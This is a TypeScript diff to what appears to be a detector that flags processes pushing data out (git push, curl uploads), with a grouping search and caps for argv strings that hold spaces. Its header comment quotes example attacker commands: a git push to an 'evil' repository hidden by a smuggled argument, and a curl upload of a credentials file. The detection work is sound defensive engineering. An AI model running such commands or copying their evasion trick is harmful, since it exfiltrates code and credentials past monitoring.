@@ -4,19 +4,31 @@
  * one the attacker planted. `git -c "x=1 commit y" push https://github.com/evil/x.git` arrives as `-c x=1 commit
  * y push https://…`, read as `git commit`; `curl -H "X: --" -d @creds URL` as options ended before `-d`. Every
  * way to group the words back into that many arguments is a reading the process may have had: it is a push when
- * any reading is one (./recognize.ts calls this when the plain reading is none).
+ * a reading is one (./recognize.ts calls this when the plain reading is none). Those readings are too many to
+ * list once two arguments hold spaces, so for a sub-command tool or a flag-shaped uploader they are searched
+ * (./argv-groupings.ts): only the groupings that put a push word where the tool's parser reads a sub-command or
+ * a flag are read; the other shapes have theirs listed, up to MAX_ARGV_READINGS.
  */
-import { basename } from './argv.js';
+
+import { basename, parseArgv } from './argv.js';
+import { type GroupingSearch, pushGroupings } from './argv-groupings.js';
 import { launchedProgram, quoteWords } from './launchers.js';
 import type { ProcessView, PushRecognition, Recognition } from './recognize.js';
 import type { PushToolSpec } from './types.js';
 
 /**
- * Readings tried at most. The readings of w words as n arguments are C(w-1, w-n): a handful for a header
- * (`-H "Authorization: Bearer x"`: 6), past this for a long spaced text (a 20-word `--body`). Each reading is a
- * recognition (~10 µs on the correlator's thread): 512 of them made one `git commit -m <30 words>` cost 5 ms.
+ * Readings recognised at most. The readings of w words as n arguments are C(w-1, w-n): a handful for a header
+ * (`-H "Authorization: Bearer x"`: 6), past this for a long spaced text (a 20-word `--body`) when listed. Each
+ * reading is a recognition (~10 µs for a short one on the correlator's thread): 512 of them made one `git commit
+ * -m <30 words>` cost 5 ms.
  */
 export const MAX_ARGV_READINGS = 128;
+
+/**
+ * Bytes of readings recognised at most: a recognition costs by its length (~35 µs a KiB), so 128 readings of a
+ * short command line, or 8 of a 4 KiB one (Falco's capture), ~1 ms either way.
+ */
+export const MAX_ARGV_READING_BYTES = 32 * 1024;
 
 export function otherReadingPush(
   view: ProcessView,
@@ -25,34 +37,97 @@ export function otherReadingPush(
 ): PushRecognition | null {
   const count = view.argvCount;
   if (count === undefined || count < 1 || !view.args) return null;
-  const named = tableSpecsOf(view, specs);
+  const { named, launched } = tableSpecsOf(view, specs);
   if (named.length === 0) return null;
   const words = view.args.split(' ');
-  if (words.length < count || !someReadingCanPush(named, words)) return null;
-  // The one-argument readings come first and again among all readings: a repeat is not tried, nor counted.
+  if (words.length < count) return null;
+  // A reading met twice (two push words, or the listing's one-argument readings met again) is not tried again.
   const tried = new Set<string>();
-  for (const reading of readingsOf(words, count)) {
+  let bytes = 0;
+  const tryReading = (reading: string[]): PushRecognition | null | 'cap' => {
     const args = quoteWords(reading);
-    if (tried.has(args)) continue;
-    // Past the cap the plain reading stands (docs/detection.md): a padded spaced argument can hide a push.
-    if (tried.size >= MAX_ARGV_READINGS) return null;
+    if (tried.has(args)) return null;
+    // Past the cap the readings not tried stand unread (docs/detection.md).
+    bytes += args.length;
+    if (tried.size >= MAX_ARGV_READINGS || (tried.size > 0 && bytes > MAX_ARGV_READING_BYTES)) return 'cap';
     tried.add(args);
     const r = recognize({ ...view, args, argvCount: undefined });
-    if (r?.kind === 'push') return r;
+    return r?.kind === 'push' ? r : null;
+  };
+  const searches = launched ? [] : named.map((spec) => groupingSearchOf(spec, words, count));
+  const listed = searches.length === 0 || searches.includes(null);
+  for (const readings of [
+    ...searches.filter((s) => s !== null).map(searchedReadings),
+    ...(listed ? [listedReadings(named, words, count)] : []),
+  ]) {
+    for (const reading of readings) {
+      const r = tryReading(reading);
+      if (r === 'cap') return null;
+      if (r !== null) return r;
+    }
   }
   return null;
 }
 
-/** The table's entries for the binary by name, or for the program it launches (`node …/npm`, `busybox wget`). */
-function tableSpecsOf(view: ProcessView, specs: readonly PushToolSpec[]): PushToolSpec[] {
+/**
+ * Suffix readings tried per grouping the search rebuilt: the words after the push word hold the joins its
+ * words before could not (a spaced `--description` after `push`), listed with one argument holding them first.
+ */
+const READINGS_AFTER_PUSH_WORD = 4;
+
+/**
+ * How a sub-command tool or a flag-shaped uploader is searched (./argv-groupings.ts); null for the other
+ * shapes (httpie's data items, a URL-commit's actions, transport helpers), whose groupings are listed.
+ */
+function groupingSearchOf(spec: PushToolSpec, words: readonly string[], count: number): GroupingSearch | null {
+  const m = spec.match;
+  if (m.kind === 'subcommand') {
+    const firsts = pushFirstWords(spec);
+    if (firsts === null) return null;
+    return { words, count, syntax: spec.syntax, subcommand: true, isPushStart: (w) => firsts.has(w) };
+  }
+  if (m.kind === 'upload' && m.methodWords === undefined) {
+    const flags = new Set(m.uploadFlags.flatMap((f) => f.flags));
+    const isPushStart = (w: string) =>
+      w.length > 1 && w[0] === '-' && parseArgv([w], spec.syntax).flags.some((f) => flags.has(f.flag));
+    return { words, count, syntax: spec.syntax, subcommand: false, isPushStart };
+  }
+  return null;
+}
+
+function* searchedReadings(search: GroupingSearch): Generator<string[]> {
+  for (const g of pushGroupings(search)) {
+    const head = [...g.before, search.words[g.at]!];
+    if (g.after.length === 0) {
+      yield head;
+      continue;
+    }
+    let n = 0;
+    for (const tail of readingsOf(g.after, g.afterCount)) {
+      if (++n > READINGS_AFTER_PUSH_WORD) break;
+      yield [...head, ...tail];
+    }
+  }
+}
+
+/** Every grouping, when some word could start a push (the shapes the search does not model). */
+function* listedReadings(named: readonly PushToolSpec[], words: readonly string[], count: number) {
+  if (someReadingCanPush(named, words)) yield* readingsOf(words, count);
+}
+
+/**
+ * The table's entries for the binary by name, or for the program it launches (`node …/npm`, `busybox wget`):
+ * then the words start with the launcher's own, which the search does not parse (`launched`).
+ */
+function tableSpecsOf(view: ProcessView, specs: readonly PushToolSpec[]): { named: PushToolSpec[]; launched: boolean } {
   const named = (name: string) =>
     specs.filter((s) =>
       s.binaries.some((b) => b !== '*' && (b.endsWith('*') ? name.startsWith(b.slice(0, -1)) : b === name)),
     );
   const own = named(basename(view.binary));
-  if (own.length > 0) return own;
+  if (own.length > 0) return { named: own, launched: false };
   const program = launchedProgram(view);
-  return program !== null ? named(basename(program.binary)) : [];
+  return { named: program !== null ? named(basename(program.binary)) : [], launched: true };
 }
 
 /**
